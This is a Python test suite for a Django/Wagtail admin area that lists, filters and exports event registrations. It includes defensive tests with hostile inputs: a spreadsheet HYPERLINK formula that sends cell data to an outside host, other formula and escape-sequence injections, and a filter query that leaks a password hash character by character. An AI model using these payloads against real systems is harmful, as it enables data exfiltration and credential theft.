"""The "Anmeldungen" area: only with the permission; lists, filters, exports; the meeting's
edit view counts; editors write to participants and are offered to after a change."""

import csv
import io

import openpyxl
import pytest
from django.core import mail
from django.urls import reverse

from strukturwandel.registration import services
from strukturwandel.registration.models import (
    MailKind,
    MailStatus,
    Registration,
    RegistrationMail,
    RegistrationStatus,
)
from strukturwandel.registration.wagtail_hooks import registration_admin
from tests.apps import factories as f

from .conftest import CALL_LINK, form_data

pytestmark = pytest.mark.django_db


def make_user(django_user_model, name, *, organiser=False):
    return f.editor(django_user_model, name, *(["manage_registrations"] if organiser else []))


@pytest.fixture
def registrations(meeting, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        erika = services.register(
            meeting, name="Erika Beispiel", email="erika@example.org", organisation="Dorfladen"
        )
        services.confirm(erika)
        max_ = services.register(meeting, name="Max Muster", email="max@example.org", note="Frage")
    mail.outbox.clear()
    return erika, max_


def area_urls(registration):
    helper = registration_admin.url_helper
    return [
        helper.index_url,
        helper.index_url + "?export=csv",
        helper.index_url + "?export=xlsx",
        helper.get_action_url("inspect", registration.pk),
        helper.get_action_url("edit", registration.pk),
        helper.get_action_url("delete", registration.pk),
        helper.create_url,
        reverse("strukturwandel_registration_message", args=[registration.meeting_id]),
    ]


def test_every_url_of_the_area_is_closed_without_the_permission(
    client, django_user_model, registrations
):
    urls = area_urls(registrations[0])
    for url in urls:
        response = client.get(url)
        assert response.status_code == 302 and "/admin/login/" in response["Location"], url
    client.force_login(make_user(django_user_model, "redakteurin"))
    for url in urls:
        response = client.get(url)
        assert response.status_code in (302, 403), url
        assert not response.streaming and b"erika@example.org" not in response.content
        assert client.post(url, {"status": "cancelled"}).status_code in (302, 403), url
    assert Registration.objects.count() == 2
    assert Registration.objects.get(email="erika@example.org").status == "confirmed"
    menu = client.get("/admin/").content.decode()
    assert registration_admin.url_helper.index_url not in menu


def test_list_filter_search_and_mail_problems(client, django_user_model, registrations, meeting):
    erika, max_ = registrations
    RegistrationMail.objects.filter(registration=max_).update(
        status=MailStatus.FAILED, error="SMTPServerDisconnected"
    )
    client.force_login(make_user(django_user_model, "orga", organiser=True))
    index = registration_admin.url_helper.index_url
    html = client.get(index).content.decode()
    assert "erika@example.org" in html and "max@example.org" in html
    assert "1 fehlgeschlagen" in html
    assert index in client.get("/admin/").content.decode()  # in the menu
    filtered = client.get(index, {"status": "confirmed"}).content.decode()
    assert "erika@example.org" in filtered and "max@example.org" not in filtered
    failed = client.get(index, {"mail": "failed"}).content.decode()
    assert "max@example.org" in failed and "erika@example.org" not in failed
    found = client.get(index, {"q": "Dorfladen"}).content.decode()
    assert "erika@example.org" in found and "max@example.org" not in found
    by_meeting = client.get(index, {"meeting__id__exact": meeting.pk}).content.decode()
    assert "erika@example.org" in by_meeting
    # The call link is no column.
    assert CALL_LINK not in html


def test_export_csv_and_xlsx(client, django_user_model, registrations, meeting):
    client.force_login(make_user(django_user_model, "orga", organiser=True))
    index = registration_admin.url_helper.index_url
    response = client.get(index, {"export": "csv", "status": "confirmed"})
    assert response["Content-Type"].startswith("text/csv")
    assert "anmeldungen.csv" in response["Content-Disposition"]
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[0][:7] == [
        "Treffen",
        "Datum",
        "Name",
        "E-Mail-Adresse",
        "Organisation",
        "Anmerkung",
        "Status",
    ]
    assert len(rows) == 2
    assert rows[1][0] == meeting.title
    assert rows[1][2:7] == ["Erika Beispiel", "erika@example.org", "Dorfladen", "-", "bestätigt"]

    response = client.get(index, {"export": "xlsx"})
    assert "anmeldungen.xlsx" in response["Content-Disposition"]
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][2] == "Name" and len(values) == 3
    assert {row[3] for row in values[1:]} == {"erika@example.org", "max@example.org"}
    assert "Frage" in [row[5] for row in values[1:]]


def test_exports_hold_what_visitors_typed_safely(client, send, django_user_model, meeting):
    # What anyone may type into the public form, as an organiser's spreadsheet reads it.
    formula = '=HYPERLINK("https://example.org/?"&C3,"Details")'
    url = reverse("strukturwandel_registration:register", args=[meeting.pk])
    fields = {"name": formula, "email": "formel@example.org", "organisation": "+49 341 123-45"}
    fields["note"] = "Klingel\x07 und Escape\x1b[31m"
    send(url, form_data(**fields))
    send(url, form_data(name="@SUM(1+1)", email="summe@example.org", note=""))
    # A full-width equals sign, which a spreadsheet may read as "=".
    send(url, form_data(name="＝HYPERLINK(1)", email="breit@example.org", note=""))
    client.force_login(make_user(django_user_model, "orga", organiser=True))
    index = registration_admin.url_helper.index_url

    response = client.get(index, {"export": "csv"})
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = {row[3]: row for row in csv.reader(io.StringIO(content))}
    # A formula stays text (the apostrophe); a phone number and the empty "-" stay as they are.
    assert rows["formel@example.org"][2] == "'" + formula
    assert rows["formel@example.org"][4] == "+49 341 123-45"
    assert rows["summe@example.org"][2] == "'@SUM(1+1)"
    assert rows["summe@example.org"][5] == "-"
    assert rows["breit@example.org"][2] == "'＝HYPERLINK(1)"

    # The worksheet cannot hold control characters: the export drops them, not the request.
    response = client.get(index, {"export": "xlsx"})
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = {row[3].value: row for row in workbook.active.iter_rows()}
    # The formula is a text cell ("s"), not a formula ("f") that openpyxl would read alike.
    assert rows["formel@example.org"][2].value == formula
    assert rows["formel@example.org"][2].data_type == "s"
    assert rows["formel@example.org"][5].value == "Klingel und Escape[31m"


def test_the_xlsx_export_holds_what_xml_does_not(client, send, django_user_model, meeting):
    # U+FFFE and U+FFFF are no control characters, pass the form, and are no XML either:
    # openpyxl refused the whole export of the Anmeldungen.
    url = reverse("strukturwandel_registration:register", args=[meeting.pk])
    send(url, form_data(name="Eva\uffff Beispiel", note="Frage\ufffe"))
    assert Registration.objects.get().name == "Eva\uffff Beispiel"
    client.force_login(make_user(django_user_model, "orga", organiser=True))

    response = client.get(registration_admin.url_helper.index_url, {"export": "xlsx"})
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    [_heading, row] = workbook.active.iter_rows(values_only=True)
    assert (row[2], row[5]) == ("Eva Beispiel", "Frage")


def test_edit_marks_attendance(client, django_user_model, registrations):
    erika, _ = registrations
    client.force_login(make_user(django_user_model, "orga", organiser=True))
    url = registration_admin.url_helper.get_action_url("edit", erika.pk)
    response = client.post(url, {"status": "attended", "organisation": "Dorfladen", "note": ""})
    assert response.status_code == 302
    erika.refresh_from_db()
    assert erika.status == RegistrationStatus.ATTENDED


def test_meeting_edit_view_counts_and_links(client, django_user_model, registrations, meeting):
    user = make_user(django_user_model, "orga", organiser=True)
    user.is_superuser = True
    user.save()
    client.force_login(user)
    html = client.get(reverse("wagtailadmin_pages:edit", args=[meeting.pk])).content.decode()
    summary = html.split('class="sw-registration-summary"', 1)[1].split("</dl>", 1)[0]
    assert "Angemeldet</dt><dd>2" in summary.replace("\n", "").replace("  ", "")
    assert f"?meeting__id__exact={meeting.pk}" in html
    assert reverse("strukturwandel_registration_message", args=[meeting.pk]) in html
    RegistrationMail.objects.filter(registration__email="max@example.org").update(
        status=MailStatus.FAILED
    )
    html = client.get(reverse("wagtailadmin_pages:edit", args=[meeting.pk])).content.decode()
    assert "1 E-Mail an Angemeldete konnte noch nicht gesendet werden" in html
    assert f"?meeting__id__exact={meeting.pk}&amp;mail=failed" in html


def test_write_to_confirmed_participants(
    client, django_user_model, registrations, meeting, django_capture_on_commit_callbacks
):
    client.force_login(make_user(django_user_model, "orga", organiser=True))
    url = reverse("strukturwandel_registration_message", args=[meeting.pk])
    assert "1 bestätigten Teilnehmer:in" in client.get(url).content.decode() or (
        "bestätigte" in client.get(url).content.decode()
    )
    response = client.post(url, {"subject": "", "body": ""})
    assert response.status_code == 200 and not mail.outbox
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"subject": "Neuer Raum", "body": "Wir treffen uns in Raum 2."})
    assert response.status_code == 302
    assert [m.to for m in mail.outbox] == [["erika@example.org"]]
    assert mail.outbox[0].subject == "Neuer Raum"
    assert "Wir treffen uns in Raum 2." in mail.outbox[0].body
    assert CALL_LINK in mail.outbox[0].body


def test_changed_call_link_offers_to_notify(client, django_user_model, registrations, meeting):
    user = make_user(django_user_model, "orga", organiser=True)
    user.is_superuser = True
    user.save()
    edit = reverse("wagtailadmin_pages:edit", args=[meeting.pk])
    # The hook runs after the editor saves; it compares the live row with what
    # participants were told.
    from django.contrib.messages.storage.fallback import FallbackStorage
    from django.test import RequestFactory

    from strukturwandel.registration.wagtail_hooks import offer_to_notify_participants

    request = RequestFactory().get(edit)
    request.user = user
    request.session = client.session
    request._messages = FallbackStorage(request)
    page = meeting.specific
    offer_to_notify_participants(request, page)
    assert not list(request._messages)  # nothing changed yet
    page.call_link = "https://meet.example.org/neu"
    page.save_revision().publish()
    offer_to_notify_participants(request, page)
    notices = [str(message) for message in request._messages]
    assert len(notices) == 1 and "?change=1" in notices[0]
    assert "Zugangslink" in notices[0]
    client.force_login(user)
    url = reverse("strukturwandel_registration_message", args=[meeting.pk]) + "?change=1"
    assert "Geänderte Angaben: " in client.get(url).content.decode()
    # After writing to them, no further notice.
    services.write_to_participants(page, "Neuer Link", "Hier der neue Link.")
    request._messages = FallbackStorage(request)
    offer_to_notify_participants(request, page)
    assert not list(request._messages)
    assert RegistrationMail.objects.filter(kind=MailKind.MESSAGE).count() == 1


@pytest.mark.parametrize(
    "query",
    ["meeting__page_ptr__id__exact=abc", "created_at__gte=gestern", "mail=x&unbekannt=1"],
)
def test_a_filter_the_list_cannot_apply_shows_every_entry_with_a_note(
    client, django_user_model, registrations, query
):
    client.force_login(make_user(django_user_model, "orga", organiser=True))
    index = registration_admin.url_helper.index_url
    response = client.get(f"{index}?{query}", follow=True)
    assert response.redirect_chain == [(index, 302)]
    html = response.content.decode()
    assert "erika@example.org" in html and "max@example.org" in html
    assert "Der Filter in der Adresse lässt sich nicht anwenden" in html


@pytest.mark.parametrize("action", ["inspect", "edit", "delete", "history"])
def test_an_entry_address_that_names_no_entry_is_not_found(
    client, django_user_model, registrations, action
):
    client.force_login(make_user(django_user_model, "orga", organiser=True))
    helper = registration_admin.url_helper
    for pk in ["abc", "9" * 30, "-1"]:
        assert client.get(helper.get_action_url(action, pk)).status_code == 404, (action, pk)


def test_a_filter_reaches_no_field_of_another_model_beyond_the_lists_own_filters(
    client, django_user_model, registrations
):
    # Otherwise an organiser could read another user's password hash (or e-mail address)
    # letter by letter from whether the list is empty: ?meeting__owner__password__startswith=
    admin = django_user_model.objects.create_superuser("chefin", "chefin@example.org", "geheim")
    meeting = registrations[0].meeting
    meeting.owner = admin
    meeting.save(update_fields=["owner"])
    client.force_login(make_user(django_user_model, "orga", organiser=True))
    index = registration_admin.url_helper.index_url
    prefix = admin.password[:8]
    for query in [
        f"meeting__owner__password__startswith={prefix}",
        "meeting__owner__email__startswith=chefin",
        "mails__body__contains=a",
    ]:
        response = client.get(f"{index}?{query}")
        assert response.status_code == 302 and response["Location"] == index, query
    # The list's own filters still apply.
    response = client.get(f"{index}?meeting__page_ptr__id__exact={meeting.pk}")
    assert response.status_code == 200 and "erika@example.org" in response.content.decode()
    response = client.get(f"{index}?email__startswith=max")
    assert response.status_code == 200 and "erika@example.org" not in response.content.decode()
